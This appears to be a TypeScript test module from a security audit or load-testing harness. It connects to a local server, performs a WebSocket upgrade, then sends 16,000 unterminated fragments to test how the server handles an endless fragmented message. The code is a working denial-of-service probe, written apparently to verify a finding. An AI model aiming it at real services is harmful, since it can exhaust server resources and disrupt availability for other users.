import { once } from 'node:events'
import { connect } from 'node:net'
import { upgradeRequest } from '../load/peer.ts'
import type { Order } from './order.ts'

const FRAGMENTS = 16_000
const FIRST_TEXT = 0x01
const MORE = 0x00
/** One byte of content, masked by zeros. */
const fragment = (first: number): Buffer => Buffer.from([first, 0x81, 0, 0, 0, 0, 0x78])
const MESSAGE = Buffer.concat([
  fragment(FIRST_TEXT),
  ...Array.from({ length: FRAGMENTS }, () => fragment(MORE)),
])

/** Finding 2: a WebSocket message of thousands of fragments that never ends. */
export async function endlessMessage({ port }: Order, from: string): Promise<void> {
  const socket = connect(port, '127.0.0.1')
  socket.on('error', () => undefined)
  socket.write(upgradeRequest({ port, transport: 'websocket', from }))
  await once(socket, 'data')
  socket.resume()
  socket.write(MESSAGE)
  await once(socket, 'close')
}
